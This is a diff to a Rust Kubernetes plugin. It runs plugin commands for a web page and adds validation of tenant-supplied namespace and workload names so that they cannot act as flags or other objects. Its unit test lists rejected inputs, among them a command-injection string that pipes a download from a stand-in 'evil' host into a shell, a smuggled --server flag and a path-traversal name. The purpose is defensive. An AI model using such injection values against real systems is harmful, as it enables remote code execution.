@@ -1,20 +1,27 @@
 //! Commands of the page: each runs the plugin itself, as a person would type it.
 
-use std::{env, ffi::OsString, process::Stdio, time::Duration};
+use std::{
+    env,
+    process::{Output, Stdio},
+    time::Duration,
+};
 
-use anyhow::{Context, Result};
+use anyhow::{Context, Result, ensure};
 use serde::Serialize;
 use tokio::{process::Command, time::timeout};
 
-use crate::print::printable;
+use crate::{cluster::is_segment, print::printable};
 
-/// The longest time that a command may take.
+/// The longest time that a command which reads may take.
 const LONGEST: Duration = Duration::from_mins(2);
 
-#[derive(Debug)]
+/// The command that takes the flags for what is read.
+pub const EXPLAIN: &str = "explain";
+
+#[derive(Clone, Debug)]
 pub struct Child {
     /// The flags of the cluster and the user.
-    pub connect: Vec<OsString>,
+    pub connect: Vec<String>,
     /// The flags for what is read.
     pub reading: Vec<String>,
 }
@@ -26,16 +33,87 @@ pub struct Printed {
     pub text: String,
 }
 
+/// The object of a command. Tenants name them.
+#[derive(Clone, Debug)]
+pub struct ChildObject {
+    namespace: String,
+    workload: String,
+}
+
+impl ChildObject {
+    /// Returns the object of a row; an error if its name can be no object's.
+    pub fn new(namespace: &str, workload: &str) -> Result<Self> {
+        let (kind, name) = workload.split_once('/').unwrap_or_default();
+        let is_kind = kind.starts_with(|c: char| c.is_ascii_alphabetic())
+            && kind.chars().all(|c| c.is_ascii_alphanumeric() || "-.".contains(c));
+        let is_name = !name.starts_with('-') && is_segment(name) && is_segment(namespace);
+        ensure!(is_kind && is_name, "{workload:?} in {namespace:?} can't be an object of a cluster");
+        Ok(Self { namespace: namespace.to_owned(), workload: workload.to_owned() })
+    }
+}
+
 impl Child {
-    /// Runs a command of the plugin, and returns all that it prints. The arguments are names of a row and no flags.
-    pub async fn run(&self, arguments: &[&str], reads: bool) -> Result<Printed> {
-        let reading = self.reading.iter().filter(|_| reads);
+    /// Runs a command of the plugin that reads, and returns all that it prints.
+    pub async fn read(&self, verb: &str, object: &ChildObject) -> Result<Printed> {
+        let mut command = self.command(verb, object, None)?;
+        command.kill_on_drop(true);
+        let output = timeout(LONGEST, command.output()).await.context("the command takes too long")??;
+        Ok(Printed::new(&output))
+    }
+
+    /// Runs a command of the plugin that changes something. It goes on when the page that asked for it is closed.
+    pub async fn change(&self, verb: &str, object: &ChildObject, more: Option<&str>) -> Result<Printed> {
+        let mut command = self.command(verb, object, more)?;
+        // Ctrl-C is for this process
+        #[cfg(unix)]
+        command.process_group(0);
+        let output = tokio::spawn(async move { command.output().await }).await??;
+        Ok(Printed::new(&output))
+    }
+
+    fn command(&self, verb: &str, object: &ChildObject, more: Option<&str>) -> Result<Command> {
+        let ChildObject { namespace, workload } = object;
+        let reading = self.reading.iter().filter(|_| verb == EXPLAIN);
         let mut command = Command::new(env::current_exe()?);
-        command.args(arguments).args(reading).args(&self.connect);
-        let output = command.stdin(Stdio::null()).kill_on_drop(true).output();
-        let output = timeout(LONGEST, output).await.context("the command takes too long")??;
-        let text = [output.stdout, output.stderr].map(|text| String::from_utf8_lossy(&text).into_owned());
+        command.arg(verb).args(["-n", namespace]).args(&self.connect).args(reading).arg("--").arg(workload);
+        command.args(more).stdin(Stdio::null()).stdout(Stdio::piped()).stderr(Stdio::piped());
+        Ok(command)
+    }
+}
+
+impl Printed {
+    fn new(output: &Output) -> Self {
+        let text = [&output.stdout, &output.stderr].map(|text| String::from_utf8_lossy(text).into_owned());
         let lines: Vec<String> = text.iter().flat_map(|text| text.lines()).map(printable).collect();
-        Ok(Printed { succeeded: output.status.success(), text: lines.join("\n") })
+        Self { succeeded: output.status.success(), text: lines.join("\n") }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn no_name_that_a_tenant_has_made_up_is_a_flag_or_another_object() {
+        for (namespace, workload) in
+            [("team", "job/train"), ("team", "pytorchjob.kubeflow.org/bert-1.2"), ("kube-system", "pod/a")]
+        {
+            assert!(ChildObject::new(namespace, workload).is_ok(), "{workload}");
+        }
+        for (namespace, workload) in [
+            ("team", "--server=http://evil/x"),
+            ("team", "-lx/y"),
+            ("team", "job/-x"),
+            ("team", "job/a b"),
+            ("team", "x;curl evil|sh;#/y"),
+            ("team", "job"),
+            ("team", "job/"),
+            ("team", "/a"),
+            ("team", "job/../../pods/x"),
+            ("", "job/a"),
+            ("a b", "job/a"),
+        ] {
+            assert!(ChildObject::new(namespace, workload).is_err(), "{namespace} {workload}");
+        }
     }
 }
